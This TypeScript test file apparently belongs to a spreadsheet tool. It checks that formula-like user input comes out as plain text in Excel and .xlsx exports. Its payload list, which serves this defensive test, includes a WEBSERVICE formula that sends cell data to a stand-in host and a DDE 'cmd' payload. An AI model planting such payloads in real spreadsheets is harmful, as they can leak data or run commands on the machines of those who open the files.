/**
 * Formula injection: user text that looks like a formula (`=`, `+`, `-`, `@`,
 * DDE payloads) goes through every output — the rollup, the reviews and table
 * conversion — into Excel (the in-memory host, through the real adapter) and
 * into .xlsx (the file adapter, read back with ExcelJS). It must arrive as text every time: the only formulas in
 * any output are Altitude's own.
 */
import { promises as fs } from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import ExcelJS from "exceljs";
import { analyse } from "../../src/core/analyse";
import { checkWorkbook } from "../../src/core/checks";
import type { RawCell, SheetData } from "../../src/core/model";
import { parseWorkbook } from "../../src/core/parse";
import { laidOutPlan, type LaidOutPlan } from "../../src/core/plan";
import { computeReviews } from "../../src/core/review";
import { computeRollup } from "../../src/core/rollup";
import { planRollup } from "../../src/core/rollup-sheet";
import { planReviews } from "../../src/core/review-sheets";
import { makePeriod } from "../../src/core/periods";
import { DEFAULT_SETTINGS } from "../../src/core/settings";
import { planTableConversion } from "../../src/core/tables";
import { createExcelWorkbook } from "../../src/workbook/excel";
import { createExcelEditor } from "../../src/workbook/excel-editor";
import { createFakeExcel } from "../../src/hosts/excel-stand-in";
import { openXlsx } from "../../src/workbook/xlsx";
import { FORMULA_LIKE } from "./arbitraries";

const settings = DEFAULT_SETTINGS;
const AS_OF = "2026-08-15";
const PAYLOADS = [...FORMULA_LIKE, "=WEBSERVICE(\"http://x.test/\"&A1)", "+cmd|'/c calc'!A1", "-1+1", "@A1", "=1+1 "];

/** A workbook whose every text field — team, objective, key result, owner, KPI, area, person, role — is a payload. */
function hostileSheets(): SheetData[] {
  const p = (i: number) => PAYLOADS[i % PAYLOADS.length];
  const okr: RawCell[][] = [["Period", "Team", "Objective", "Key result", "Owner", "Start", "Target", "Current"]];
  const kpi: RawCell[][] = [["KPI", "Area", "Owner", "Floor", "Target", "Period", "Actual"]];
  const kra: RawCell[][] = [["Employee", "Role", "Manager", "Review period", "Area", "Weight", "Rating"]];
  PAYLOADS.forEach((_, i) => {
    okr.push(["2026-Q3", p(i), p(i + 1), `${p(i + 2)} ${i}`, p(i + 3), 0, 10, i % 11]);
    kpi.push([p(i), p(i + 1), p(i + 2), 10, 20, "2026-07", 5]);
    kra.push([p(i), p(i + 1), p(i + 2), 2026, p(i + 3), 100, 3]);
  });
  return [
    { name: "OKRs", values: okr, origin: { row: 0, col: 0 } },
    { name: "KPIs", values: kpi, origin: { row: 0, col: 0 } },
    { name: "KRAs", values: kra, origin: { row: 0, col: 0 } },
  ];
}

function plans(sheets: SheetData[]): { rollup: LaidOutPlan; reviews: LaidOutPlan } {
  const parsed = parseWorkbook(sheets, { settings });
  const analysis = analyse(parsed, settings, AS_OF);
  const findings = checkWorkbook(parsed, analysis, { settings, asOf: AS_OF });
  const rollup = computeRollup(analysis, findings, { period: makePeriod("quarter", 2026, 3)!, settings });
  const reviews = computeReviews(analysis, findings, { period: makePeriod("year", 2026, 1)!, settings });
  return { rollup: planRollup(rollup), reviews: laidOutPlan(planReviews(reviews, { period: makePeriod("year", 2026, 1)! })) };
}

/** Altitude's own formulas: its custom functions over cell references, numbers, dates and its own words, or a constant word. */
// Cell references are A1 addresses or structured references to the formula's own row ([@Start], [@[Key result]]).
const OWN_FORMULA = /^=(ALTITUDE\.[A-Z]+\((\$?[A-Z]{1,3}\$?\d+|\[@(\w+|\[([^'\]]|'.)*\])\]|"[A-Za-z ]*"|[\d.]+|DATE\(\d+,\d+,\d+\)|,)*\)|"[A-Za-z ]*")$/;

describe("formula injection", () => {
  const sheets = hostileSheets();
  const { rollup, reviews } = plans(sheets);

  it("plans payloads as text values and no formulas blocks carrying them", () => {
    const planned = [...rollup.sheets, ...reviews.sheets].flatMap((s) => s.blocks);
    const texts = planned.flatMap((b) => (b.kind === "cells" ? b.values.flat() : b.kind === "table" ? [...b.headers, ...b.rows.flat()] : b.kind === "link" ? [b.text] : []));
    expect(texts.some((t) => typeof t === "string" && PAYLOADS.some((p) => t.includes(p.trim())))).toBe(true);
    for (const block of planned) if (block.kind === "formulas") for (const f of block.formulas.flat()) expect(f).toMatch(OWN_FORMULA);
  });

  it("writes payloads into Excel as text: no cell of the new sheets holds a user formula", async () => {
    const fake = createFakeExcel({ sheets: sheets.map((s) => ({ name: s.name, values: s.values })) });
    const port = createExcelWorkbook(fake.Excel);
    const written = await port.writeSheets(rollup);
    const more = await port.writeSheets(reviews);
    const names = [...Object.values(written.names), ...Object.values(more.names)];
    let payloadCells = 0;
    for (const name of names) {
      const view = fake.getSheet(name);
      if (!view?.used) continue;
      const { used } = view;
      const bottomRight = `${String.fromCharCode(64 + Math.min(26, used.col + used.cols))}${used.row + used.rows}`;
      const { values, formulas } = view.range(`A1:${bottomRight}`);
      formulas.flat().forEach((f) => f === null || expect(f).toMatch(OWN_FORMULA));
      payloadCells += values.flat().filter((v) => typeof v === "string" && PAYLOADS.some((p) => p.trim().length > 2 && v.includes(p.trim()))).length;
    }
    // The payloads did reach the sheets, as text.
    expect(payloadCells).toBeGreaterThan(0);
  });

  it("converts a payload-filled sheet to a table with only Altitude's formulas and the user's text untouched", async () => {
    const fake = createFakeExcel({ sheets: sheets.map((s) => ({ name: s.name, values: s.values })) });
    const parsed = parseWorkbook(sheets, { settings });
    const conversion = planTableConversion(sheets[0], parsed.sheets[0], settings);
    if (!conversion.ok) throw new Error(conversion.message);
    await createExcelEditor(fake.Excel).convertToTable(conversion.value);
    const view = fake.getSheet("OKRs");
    const rows = sheets[0].values.length;
    const { values, formulas } = view!.range(`A1:Z${rows}`);
    formulas.flat().forEach((f) => f === null || expect(f).toMatch(OWN_FORMULA));
    expect(values.map((line) => line.slice(0, 8))).toEqual(sheets[0].values);
  });

  it("writes payloads into .xlsx as strings, never as formula cells", async () => {
    const dir = await fs.mkdtemp(path.join(os.tmpdir(), "altitude-injection-"));
    const input = new ExcelJS.Workbook();
    input.addWorksheet("OKRs");
    await input.xlsx.writeFile(path.join(dir, "in.xlsx"));
    const port = await openXlsx(path.join(dir, "in.xlsx"));
    await port.writeSheets(rollup);
    await port.writeSheets(reviews);
    await port.saveAs(path.join(dir, "out.xlsx"));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path.join(dir, "out.xlsx"));
    await fs.rm(dir, { recursive: true, force: true });
    let strings = 0;
    workbook.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((c) => {
          if (c.type === ExcelJS.ValueType.Formula) expect(`=${String(c.formula)}`).toMatch(OWN_FORMULA);
          if (typeof c.value === "string" && PAYLOADS.some((p) => c.value === p || (c.value as string).includes(p.trim()))) strings += 1;
        }),
      ),
    );
    expect(strings).toBeGreaterThan(0);
  });
});
